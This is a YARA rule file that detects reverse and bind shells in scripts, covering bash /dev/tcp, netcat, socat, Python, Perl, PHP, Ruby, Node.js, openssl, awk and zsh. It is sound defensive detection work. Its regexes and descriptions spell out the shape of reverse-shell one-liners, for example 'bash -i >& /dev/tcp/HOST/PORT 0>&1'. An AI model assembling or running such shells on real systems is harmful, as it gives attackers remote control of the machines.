/*
 * revshells.yar — reverse and bind shells in scripts: one-liners that
 * connect out (or listen) and hand an interactive shell to the other end.
 *
 * Only non-ELF files: shells and interpreters contain "/dev/tcp" and
 * "socket" themselves. Each rule wants the connection and the shell wired
 * to it together, so a script that merely probes a port (wait-for-it
 * style `> /dev/tcp/db/5432`) or redirects its own output does not match.
 */

rule revshell_bash_dev_tcp
{
    meta:
        tool = "bash reverse shell"
        description = "shell wired to a /dev/tcp or /dev/udp connection (bash -i >& /dev/tcp/HOST/PORT 0>&1 and kin)"
        severity = "high"
        category = "reverse-shell"
    strings:
        $interactive = /sh\s+-i\s*[0-9]?[<>]&?\s*\/dev\/(tcp|udp)\/[^\/\s]{1,253}\/[0-9]{1,5}/
        $stdin_dup = /\/dev\/(tcp|udp)\/[^\/\s]{1,253}\/[0-9]{1,5}\s*0\s*[<>]&\s*1/
        $fd_open = /exec\s+[0-9]{1,3}\s*<>\s*\/dev\/(tcp|udp)\/[^\/\s]{1,253}\/[0-9]{1,5}/
        $fd_loop = /while\s+read\s+[A-Za-z_]{1,32}\s*;\s*do\s+\$[A-Za-z_]{1,32}\s+2>&\s*[0-9]{1,3}\s*>&\s*[0-9]{1,3}/
        $fd_shell = /sh\s+(-i\s+)?<&\s*[0-9]{1,3}\s*>&\s*[0-9]{1,3}\s+2>&\s*[0-9]{1,3}/
    condition:
        uint32be(0) != 0x7f454c46 and
        ($interactive or $stdin_dup or ($fd_open and ($fd_loop or $fd_shell)))
}

rule revshell_netcat_pipe
{
    meta:
        tool = "netcat reverse shell"
        description = "netcat/telnet serving a shell: nc -e /bin/sh, or sh -i piped through nc and a FIFO"
        severity = "high"
        category = "reverse-shell"
    strings:
        $exec_flag = /\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)(\s[^\n|;&]{0,100})?\s(-[a-z]{0,6}[ec]|--exec|--sh-exec)\s+["']?(\/[a-z\/]{0,20}\/)?(ba|z|da|k)?sh\b/
        $pipe_nc = /sh\s+-i\s+2>&1\s*\|\s*(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s/
        $nc_pipe = /\b(nc|ncat|netcat)\s[^\n|;&]{1,100}\|\s*(\/bin\/)?(ba|z|da)?sh\s+[^\n]{0,20}\|\s*(nc|ncat|netcat)\s/
        $telnet = /telnet\s+[^\s|;]{1,253}\s+[0-9]{1,5}\s*\|\s*(\/bin\/)?(ba)?sh\s*\|\s*telnet\s/
    condition:
        uint32be(0) != 0x7f454c46 and any of them
}

rule revshell_socat
{
    meta:
        tool = "socat reverse shell"
        description = "socat joining a shell to a TCP connection (exec:'bash -li',pty ... tcp:HOST:PORT)"
        severity = "high"
        category = "reverse-shell"
    strings:
        $exec_tcp = /socat\s[^\n]{0,80}exec:["']?(\/bin\/)?(ba|z)?sh[^\n]{0,120}tcp[46]?(-connect|-listen)?:/ nocase
        $tcp_exec = /socat\s[^\n]{0,80}tcp[46]?(-connect|-listen)?:[^\n]{0,120}exec:["']?(\/bin\/)?(ba|z)?sh/ nocase
    condition:
        uint32be(0) != 0x7f454c46 and any of them
}

rule revshell_python
{
    meta:
        tool = "python reverse shell"
        description = "Python socket whose file descriptor becomes a shell's stdin/stdout (os.dup2, one by one or in a loop over 0, 1, 2, + pty.spawn/subprocess)"
        severity = "high"
        category = "reverse-shell"
    strings:
        $socket = /socket\.socket\s*\(/
        $connect = /\.connect\s*\(\s*\(/
        $dup2 = /os\.dup2\s*\(\s*[A-Za-z_][A-Za-z0-9_.]{0,40}\.fileno\s*\(\s*\)\s*,\s*[012]\s*\)/
        $dup2_each = /os\.dup2\s*\(\s*[A-Za-z_][A-Za-z0-9_.]{0,40}\.fileno\s*\(\s*\)\s*,\s*[A-Za-z_][A-Za-z0-9_]{0,15}\s*\)\s*for\s+[A-Za-z_][A-Za-z0-9_]{0,15}\s+in\s+(\(\s*0\s*,\s*1\s*,\s*2\s*\)|\[\s*0\s*,\s*1\s*,\s*2\s*\]|range\s*\(\s*3\s*\))/
        $dup2_loop = /for\s+[A-Za-z_][A-Za-z0-9_]{0,15}\s+in\s+(\(\s*0\s*,\s*1\s*,\s*2\s*\)|\[\s*0\s*,\s*1\s*,\s*2\s*\]|range\s*\(\s*3\s*\))\s*:\s*os\.dup2\s*\(\s*[A-Za-z_][A-Za-z0-9_.]{0,40}\.fileno\s*\(\s*\)/
        $pty = /pty\.spawn\s*\(\s*["'](\/bin\/)?(ba|z)?sh["']/
        $subprocess = /subprocess\.(call|Popen|run)\s*\(\s*\[\s*["'](\/bin\/)?(ba|z)?sh["']\s*,\s*["']-i["']/
    condition:
        uint32be(0) != 0x7f454c46 and $socket and $connect and ($dup2 or $dup2_each or $dup2_loop) and
        ($pty or $subprocess)
}

rule revshell_perl
{
    meta:
        tool = "perl reverse shell"
        description = "Perl socket reopened as STDIN/STDOUT and a shell exec'd on it"
        severity = "high"
        category = "reverse-shell"
    strings:
        $socket = /socket\s*\(\s*[A-Za-z_$]{1,32}\s*,\s*(PF|AF)_INET6?\s*,\s*SOCK_STREAM/
        $connect = /connect\s*\(\s*[A-Za-z_$]{1,32}\s*,\s*(pack_)?sockaddr_in/
        $reopen = /open\s*\(\s*STD(IN|OUT|ERR)\s*,\s*["']>&[A-Za-z_$]{1,32}["']\s*\)/
        $exec = /exec\s*\(?\s*["'](\/bin\/)?(ba)?sh( -i)?["']/
        $inet = "IO::Socket::INET"
        $fdopen = /STDIN->fdopen\s*\(\s*\$[A-Za-z_]{1,32}\s*,\s*["']?r["']?\s*\)/
    condition:
        uint32be(0) != 0x7f454c46 and
        (($socket and $connect and $reopen and $exec) or ($inet and $fdopen))
}

rule revshell_php
{
    meta:
        tool = "php reverse shell"
        description = "PHP fsockopen() connection handed to /bin/sh -i <&N >&N"
        severity = "high"
        category = "reverse-shell"
    strings:
        $fsockopen = /fsockopen\s*\(/
        $shell = /(exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*["'](\/bin\/)?(ba)?sh\s+(-i\s*)?<&\s*[0-9]/
    condition:
        uint32be(0) != 0x7f454c46 and $fsockopen and $shell
}

rule revshell_ruby
{
    meta:
        tool = "ruby reverse shell"
        description = "Ruby TCPSocket whose descriptor becomes a shell's stdin/stdout/stderr"
        severity = "high"
        category = "reverse-shell"
    strings:
        $tcpsocket = /TCPSocket\.(open|new)\s*\(/
        $format = /sh -i <&%d >&%d 2>&%d/
        $spawn = /(exec|spawn|system)\s*\(?\s*["'](\/bin\/)?(ba)?sh( -i)?["']\s*,\s*\[?\s*:?(in|out)\s*=>/
    condition:
        uint32be(0) != 0x7f454c46 and $tcpsocket and ($format or $spawn)
}

rule revshell_node
{
    meta:
        tool = "node.js reverse shell"
        description = "Node.js net.Socket piped into a spawned shell"
        severity = "high"
        category = "reverse-shell"
    strings:
        $socket = /new\s+net\.Socket\s*\(/
        $spawn = /spawn\s*\(\s*["'](\/bin\/)?(ba|z)?sh["']/
        $pipe = /\.stdout\.pipe\s*\(\s*[A-Za-z_$]{1,32}\s*\)/
    condition:
        uint32be(0) != 0x7f454c46 and all of them
}

rule revshell_fd_shell
{
    meta:
        tool = "reverse shell"
        description = "a shell whose stdin, stdout and stderr are all one inherited descriptor (sh -i <&3 >&3 2>&3) next to a network connection, in any language (Lua, PHP, Tcl ...)"
        severity = "high"
        category = "reverse-shell"
    strings:
        $fd_shell = /(ba|z|da|k)?sh\s+(-i\s*)?<&\s*[3-9]\s*>&\s*[3-9]\s*2>&\s*[3-9]/
        $socket = /socket\s*[.:(]/ nocase
        $tcp = /tcp\s*[.:(]/ nocase
        $connect = /connect\s*\(/
        $fsock = /fsockopen\s*\(/
    condition:
        uint32be(0) != 0x7f454c46 and $fd_shell and ($socket or $tcp or $connect or $fsock)
}

rule revshell_openssl
{
    meta:
        tool = "openssl reverse shell"
        description = "a shell wired to openssl s_client: sh -i < FIFO 2>&1 | openssl s_client -connect HOST:PORT > FIFO, or s_client piped into a shell"
        severity = "high"
        category = "reverse-shell"
    strings:
        $sh_to_tls = /sh\s+-i\s*<\s*[^\s|;&]{1,128}\s+2>&1\s*\|\s*openssl\s+s_client\s/
        $tls_to_sh = /openssl\s+s_client\s[^\n|;&]{0,160}\|\s*(\/bin\/)?(ba|z|da)?sh\s*[^\n]{0,40}\|\s*openssl\s+s_client\s/
    condition:
        uint32be(0) != 0x7f454c46 and any of them
}

rule revshell_awk
{
    meta:
        tool = "awk reverse shell"
        description = "gawk connecting out through /inet/tcp and sending the output of commands it reads back over the connection"
        severity = "high"
        category = "reverse-shell"
    strings:
        $inet = /\/inet[46]?\/tcp\/0\/[^\/\s"']{1,253}\/[0-9]{1,5}/
        $cmd_to_sock = /\(\s*[A-Za-z_][A-Za-z0-9_]{0,31}\s*\|&\s*getline\s*\)\s*>\s*0\s*\)\s*print\s+\$0\s*\|&/
    condition:
        uint32be(0) != 0x7f454c46 and $inet and $cmd_to_sock
}

rule revshell_zsh
{
    meta:
        tool = "zsh reverse shell"
        description = "zsh's TCP module connecting out and a shell redirected onto the connection ($REPLY)"
        severity = "high"
        category = "reverse-shell"
    strings:
        $module = /zmodload\s+zsh\/net\/tcp/
        $ztcp = /ztcp\s+[^\s;&|-][^\s;&|]{0,252}\s+[0-9]{1,5}/
        $redirect = /(ba|z|da)?sh\s+[^\n]{0,20}>&\s*\$REPLY/
    condition:
        uint32be(0) != 0x7f454c46 and all of them
}
